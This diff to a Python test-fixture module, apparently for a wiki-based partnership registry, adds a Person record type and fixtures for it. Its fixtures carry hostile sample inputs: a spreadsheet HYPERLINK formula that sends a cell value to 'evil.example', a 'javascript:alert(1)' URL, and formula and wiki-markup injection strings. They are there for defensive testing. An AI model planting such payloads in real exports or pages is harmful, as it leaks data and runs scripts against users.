@@ -29,7 +29,11 @@ fields:
   country:
     {type: country, label: {en: Country, sv: Land}, about: {en: Where it is}, property: location}
   languages:
-    {type: language, many: true, label: {en: Languages}, about: {en: What it speaks}, property: knowsLanguage}
+    type: language
+    many: true
+    label: {en: Languages}
+    about: {en: What it speaks}
+    property: knowsLanguage
   topics:
     {many: true, label: {en: Topics, sv: Ämnen}, about: {en: What it knows}, property: knowsAbout}
   stage:
@@ -39,7 +43,7 @@ fields:
     choices: {talking: {en: In conversation, sv: I samtal}, active: {en: Active, sv: Aktivt}}
   since: {type: date, label: {en: Since, sv: Sedan}, about: {en: When it began}}
   site: {type: url, label: {en: Web site}, about: {en: Its site}, property: url}
-  contact: {type: user, many: true, label: {en: Contact}, about: {en: Who to ask}, property: contactPoint}
+  contact: {type: user, many: true, label: {en: Contact}, about: {en: Who to ask}}
   endpoint: {label: {en: Endpoint}, about: {en: Where its data is}}
   lessons: {label: {en: Lessons, sv: Lärdomar}, about: {en: What was learnt}}
 pages:
@@ -60,7 +64,13 @@ called: title
 schema_type: DigitalDocument
 fields:
   title: {label: {en: Title}, about: {en: What it is called}, property: name}
-  partner: {type: record, of: [partner], many: true, label: {en: Partner}, about: {en: With whom}, property: about}
+  partner:
+    type: record
+    of: [partner]
+    many: true
+    label: {en: Partner}
+    about: {en: With whom}
+    property: about
   stage:
     type: choice
     label: {en: Stage, sv: Läge}
@@ -70,6 +80,21 @@ fields:
   people: {type: number, label: {en: People}, about: {en: How many}, property: size}
 """
 
+PERSON = """
+template: Person
+below: People
+called: user
+listed_by: listed
+label: {en: Person}
+plural: {en: People}
+about: {en: Who carries partnerships}
+schema_type: Person
+fields:
+  user: {type: user, label: {en: User}, about: {en: Their account}, property: name}
+  listed: {type: yes-no, label: {en: Listed}, about: {en: Whether they may be listed}}
+  country: {type: country, label: {en: Country, sv: Land}, about: {en: Where they are}}
+"""
+
 START = datetime(2024, 3, 1, 9, 0, tzinfo=UTC)
 LATER = datetime(2025, 6, 1, 9, 0, 0, 123456, tzinfo=UTC)
 NOW = datetime(2026, 2, 1, 9, 0, tzinfo=UTC)
@@ -77,12 +102,11 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"look")'
 
 
 def write_kinds(folder: Path) -> Path:
-    """The kinds' files, and the licences that they are read with, in a configuration's folder."""
+    """The kinds' files in a configuration's folder."""
     (folder / "records").mkdir(parents=True)
     (folder / "records" / "partner.yaml").write_text(PARTNER, encoding="utf-8")
+    (folder / "records" / "person.yaml").write_text(PERSON, encoding="utf-8")
     (folder / "records" / "agreement.yaml").write_text(AGREEMENT, encoding="utf-8")
-    licences = Path(__file__).parents[2] / "config" / "licences.yaml"
-    (folder / "licences.yaml").write_text(licences.read_text(encoding="utf-8"), encoding="utf-8")
     return folder
 
 
@@ -143,8 +167,9 @@ def fill(store: Store) -> None:
     put(partner(14, "Rijksmuseum", kind="museum", country="NL", stage="active", topics=["art"]))
     put(
         partner(
-            15, HOSTILE, kind="museum", stage="talking", topics=[FORMULA, HOSTILE], endpoint="@SUM(1)",
+            15, HOSTILE, kind="museum", stage="talking", topics=[FORMULA, HOSTILE],
             lessons="[[Category:Evil]]{{delete}}'''<b>bold</b>", site="javascript:alert(1)",
+            endpoint="@SUM(1)",
         )
     )  # fmt: skip
     put(partner(16, "Gone", country="FI"))
@@ -155,4 +180,10 @@ def fill(store: Store) -> None:
     old = "Partnerships/Agreements/Scans"
     put(record("agreement", 21, old, START, title="Scans 2024", stage="active", ends="2027-06",
                partner=["Partnerships/Partners/Nationalmuseum"], people="12"))  # fmt: skip
+    people = "Partnerships/People"
+    put(record("person", 41, f"{people}/Helper", START, user="Helper", listed="yes", country="SE"))
+    put(record("person", 42, f"{people}/Shy", START, user="Shy", listed="yes", country="SE"))
+    put(record("person", 42, f"{people}/Shy", LATER, user="Shy", listed="no", country="SE"))
+    put(record("person", 43, f"{people}/Left", START, user="Left", listed="yes"))
+    store.end_page_record(43, "hub", LATER)
     put(record("retired kind", 31, "Partnerships/Old/X", START, name="X"))
